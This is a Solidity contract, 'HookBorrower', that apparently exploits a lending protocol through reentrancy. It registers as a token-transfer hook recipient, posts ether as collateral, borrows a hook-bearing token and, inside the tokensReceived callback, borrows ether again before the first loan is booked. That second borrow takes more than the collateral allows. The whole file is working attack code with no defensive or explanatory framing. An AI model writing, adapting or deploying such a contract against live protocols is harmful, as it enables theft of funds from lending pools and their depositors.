// SPDX-License-Identifier: MIT
pragma solidity 0.8.34;

interface IHookRegistry {
    function setInterfaceImplementer(address account, bytes32 interfaceHash, address implementer) external;
}

interface ILendingRules {
    function enterMarkets(address[] calldata markets) external returns (uint256[] memory);
}

interface IEtherMarket {
    function mint() external payable;
    function borrow(uint256 amount) external returns (uint256);
}

/// @notice Borrows a token that tells its receiver about a transfer, and borrows once more from there, before the first debt is written down.
contract HookBorrower {
    IHookRegistry public constant REGISTRY = IHookRegistry(0x1820a4B7618BdE71Dce8cdc73aAB6C95905faD24);
    bytes32 public constant RECIPIENT = keccak256("AmpTokensRecipient");

    IEtherMarket private etherMarket;
    uint256 private again;

    receive() external payable {}

    /// @notice `amount` of the token's market, and `second` ether from within; all that was sent along is collateral.
    function run(
        ILendingRules rules,
        IEtherMarket ether_,
        IEtherMarket token,
        uint256 amount,
        uint256 second
    ) external payable {
        REGISTRY.setInterfaceImplementer(address(this), RECIPIENT, address(this));
        address[] memory collateral = new address[](1);
        collateral[0] = address(ether_);
        rules.enterMarkets(collateral);
        ether_.mint{value: msg.value}();

        (etherMarket, again) = (ether_, second);
        require(token.borrow(amount) == 0, "HookBorrower: no debt");
    }

    /// @notice What the token calls.
    function tokensReceived(
        bytes4,
        bytes32,
        address,
        address,
        address,
        uint256,
        bytes calldata,
        bytes calldata
    ) external {
        if (again > 0) etherMarket.borrow(again);
    }
}
